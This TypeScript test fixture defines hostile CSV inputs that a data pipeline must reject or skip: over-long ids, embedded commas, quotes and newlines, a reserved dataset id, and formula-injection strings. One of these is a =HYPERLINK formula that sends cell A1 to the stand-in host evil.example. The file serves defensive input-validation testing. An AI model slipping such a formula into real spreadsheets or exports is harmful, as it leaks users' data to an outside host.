/**
 * Hostile exports (issue 13): identifiers that would inject formulas, break CSV columns or rows or overflow the
 * table's keys, unbounded free text, and a dataset id that collides with the ids the product derives. Each is a
 * mutation of a small generated export with its documented outcome (docs/operations-and-faults.md#identifiers), fed
 * to both the stack and the CLI by test/pipeline/hostile-input.test.ts, which checks they give the same message.
 *
 * Line numbers are the file's lines (1 = header); a hostile value is written as a CSV writer of the other shop would
 * write it (quoted when it holds a comma, a quote or a line end).
 */
import { Files, CUSTOMERS, ORDERS } from './badInputs';

export interface HostileCase {
  name: string;
  mutate(files: Files): void;
  /** The dataset id uploaded under (default: one per case). */
  datasetId?: string;
  /** MAX_INVALID_ROWS of the stack, --max-invalid-rows of the CLI. */
  maxInvalidRows?: number;
  outcome: 'accepted' | 'rejected';
  /** rejected: the whole message (the stack's reason, the CLI's error line); accepted: the first warning. */
  message: RegExp;
  /** rejected: where error.json locates it. */
  where?: { file: string; line?: number; column?: string };
  /** The CLI command when not `run` (folder, output folder, state folder -> arguments). */
  cli?: (dir: string, out: string, state: string) => string[];
  /** The CLI's exit code when rejected (default 1, bad data; 2 for a usage mistake). */
  cliExit?: number;
  /** Ids that must not appear in any output of an accepted case (skipped rows). */
  absent?: string[];
}

const lines = (files: Files, file: string): string[] => files[file].toString('utf8').split('\n');
const setLines = (files: Files, file: string, ls: string[]) => (files[file] = Buffer.from(ls.join('\n')));
/** A cell as a CSV writer writes it: quoted when it holds a comma, a quote or a line end. */
const cell = (v: string) => (/[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
/** Replaces field `field` (0-based) of file line `line` (1-based) with `value` (written as a cell). */
function setField(files: Files, file: string, line: number, field: number, value: string): void {
  const ls = lines(files, file);
  const f = ls[line - 1].split(',');
  f[field] = cell(value);
  ls[line - 1] = f.join(',');
  setLines(files, file, ls);
}
const fieldOf = (files: Files, file: string, line: number, field: number) => lines(files, file)[line - 1].split(',')[field].replace(/"/g, '');

export const FORMULA_ID = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
export const HOSTILE_IDS = [FORMULA_ID, '+1+1', '@SUM(1,2)', 'ACME, Inc', 'he said "hi"', 'two\nlines'];
const LONG_ID = 'a'.repeat(65);
const RULE = 'an identifier: 1 to 64 letters, digits, _ or - \\(not starting with -\\)';
const rejectedId = (file: string, line: number, column: string, found: string) => new RegExp(`^${file.replace(/\./g, '\\.')}, line ${line}, column ${column}: expected ${RULE}, found ${escape(JSON.stringify(found.length > 60 ? found.slice(0, 57) + '...' : found))}$`);
const escape = (s: string) => s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');

export const RESERVED_ID = 'olist-retrain-20180901';

export const HOSTILE_CASES: HostileCase[] = [
  ...HOSTILE_IDS.map(
    (id, i): HostileCase => ({
      name: `customer_unique_id ${JSON.stringify(id)}`,
      mutate: (f) => setField(f, CUSTOMERS, 5 + i, 1, id),
      outcome: 'rejected',
      message: rejectedId(CUSTOMERS, 5 + i, 'customer_unique_id \\(2\\)', id),
      where: { file: CUSTOMERS, line: 5 + i, column: 'customer_unique_id (2)' },
    }),
  ),
  {
    name: 'customer_unique_id of 65 characters',
    mutate: (f) => setField(f, CUSTOMERS, 12, 1, LONG_ID),
    outcome: 'rejected',
    message: rejectedId(CUSTOMERS, 12, 'customer_unique_id \\(2\\)', LONG_ID),
    where: { file: CUSTOMERS, line: 12, column: 'customer_unique_id (2)' },
  },
  {
    name: 'order_id of 2,000 characters (beyond a DynamoDB key)',
    mutate: (f) => setField(f, ORDERS, 9, 0, 'f'.repeat(2000)),
    outcome: 'rejected',
    message: rejectedId(ORDERS, 9, 'order_id \\(1\\)', 'f'.repeat(2000)),
    where: { file: ORDERS, line: 9, column: 'order_id (1)' },
  },
  {
    name: 'hostile ids under the row tolerance (MAX_INVALID_ROWS=6): their rows skipped, everyone else segmented',
    mutate: (f) => {
      // Four people with hostile ids: their customers rows are invalid, so are the orders of their customer_ids (the
      // orders' items, payments and reviews are then orphans: skipped and counted, under 1%).
      HOSTILE_IDS.slice(0, 4).forEach((id, i) => setField(f, CUSTOMERS, 20 + i, 1, id));
    },
    maxInvalidRows: 6,
    outcome: 'accepted',
    message: /^olist_customers_dataset\.csv: 4 invalid rows skipped under the row tolerance; first: olist_customers_dataset\.csv, line 20, column customer_unique_id \(2\): expected an identifier: .*, found "=HYPERLINK\(/,
    absent: HOSTILE_IDS.slice(0, 4),
  },
  {
    name: '10,000 distinct customer_state texts (rows added for existing people): counted as "other", charts bounded',
    mutate: (f) => {
      const ls = lines(f, CUSTOMERS).filter((l) => l);
      const extra: string[] = [];
      for (let i = 0; i < 10_000; i++) {
        const row = ls[1 + (i % (ls.length - 1))].split(',');
        row[0] = `"extra${String(i).padStart(27, '0')}"`; // a new customer_id (no order) of an existing person
        row[4] = `State number ${i}`;
        extra.push(row.join(','));
      }
      setLines(f, CUSTOMERS, [...ls, ...extra, '']);
    },
    outcome: 'accepted',
    message: /^olist_customers_dataset\.csv: 10000 rows whose customer_state is not one of Brazil's 27 state codes, counted as "other" \(the first at line \d+\)$/,
  },
  {
    name: `a dataset id holding the retraining mark (${RESERVED_ID})`,
    mutate: () => undefined,
    datasetId: RESERVED_ID,
    outcome: 'rejected',
    message: new RegExp(`^dataset id ${RESERVED_ID}: expected an id without "-retrain-" \\(reserved for the retrainings the stability check starts, <dataset>-retrain-<time>\\): upload it under another id$`),
    cli: (dir, _out, state) => ['start', '--data', dir, '--dataset-id', RESERVED_ID, '--state', state, '--quiet'],
    cliExit: 2,
  },
];

/** The customer_unique_id a case replaced (for checks that the person is gone). */
export function idAt(files: Files, line: number): string {
  return fieldOf(files, CUSTOMERS, line, 1);
}
